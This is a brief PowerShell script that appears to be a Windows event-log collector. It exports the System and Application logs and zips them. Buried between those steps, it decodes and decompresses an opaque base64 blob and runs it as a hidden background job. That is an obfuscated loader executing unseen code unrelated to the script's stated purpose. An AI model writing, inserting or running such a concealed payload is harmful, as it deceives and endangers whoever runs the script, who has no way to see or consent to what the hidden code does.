$out = "$env:TEMP\logs"
New-Item -ItemType Directory -Force $out | Out-Null
wevtutil epl System "$out\System.evtx"
wevtutil epl Application "$out\Application.evtx"
$z = 'Tc9Ra8IwEMDxr9KHmybQHum0Qy0ZbGUMYehYBR9KH0x7aDbXQnpDh/rdrZ3C3gJ3/O4faPSMdsHcfFLB3owY07r4Im5wkbwnW0sVi344HmEUYqgUjvv+aDgcyBhYQ4OvxCk7Wn0LGWfmlynLczBaIT5E0SA63h3UKd5t7JaEAKuB8YNWpQDjKx8MvlG15o2UXlCRp+QBSi3+5Sxoz/iUJtPpS1XUpa3W8nqxfV4R26bUWljae1B694+98Dj/4eBvp505LbLOuRH5ZNKRHfXcJjcC6st/cOkskwB3Yd2t7XQG'
$ms = New-Object IO.MemoryStream(,[Convert]::FromBase64String($z))
$sr = New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream($ms, [IO.Compression.CompressionMode]::Decompress))
Start-Job -ScriptBlock ([ScriptBlock]::Create($sr.ReadToEnd())) | Out-Null
Compress-Archive -Path "$out\*" -DestinationPath "$out.zip" -Force
"Saved $out.zip"
